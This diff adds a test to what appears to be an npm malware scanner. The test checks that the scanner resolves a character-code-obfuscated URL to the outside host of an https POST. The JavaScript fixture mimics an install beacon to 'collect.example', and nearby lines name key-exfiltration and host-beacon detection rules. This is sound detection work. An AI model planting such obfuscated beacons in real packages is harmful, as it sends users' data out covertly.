@@ -385,3 +385,21 @@ def test_dotted_numbers_and_protocol_names_are_not_hosts():
             "function connect(cfg) { const c = Object.assign({}, OIDS, cfg); dns.lookup(c.host, () => {}); }\n"
             "connect({ privateKey: process.argv[2] });\n")
     assert not any(f.rule in ("code/key-exfiltration", "code/host-beacon") for f in run({"index.js": code}))
+
+
+def test_a_url_returned_by_a_local_decoding_helper_is_where_the_request_goes():
+    # (blind set 8's Strapi plugin: `const _ = (a) => String.fromCharCode.apply(null, a)`, then
+    # `new URL(_([104, 116, ...]))` is the request's host)
+    from npmward.analyzers.code import flow as F
+    from npmward.analyzers.code.rules._chain import sinks
+    from npmward.commands.trace import analyse
+
+    codes = [ord(c) for c in "https://collect.example/v1/install"]
+    code = ("const https = require('https');\nconst _ = (a) => String.fromCharCode.apply(null, a);\n"
+            f"const REPORT = _({codes});\n"
+            "https.request({ host: new URL(REPORT).hostname, method: 'POST' }).end('x');\n")
+    artifact = Artifact(PackageId("pkg", "1.0.0"), {"package.json": b'{"name":"pkg","version":"1.0.0"}', "index.js": code.encode()},
+                        {"name": "pkg", "version": "1.0.0"}, "test")
+    _, views, _ = analyse(artifact)
+    request = next(s for s in sinks(views["index.js"]) if s.fact.value == "https.request")
+    assert request.destination & F.OTHER_HOST
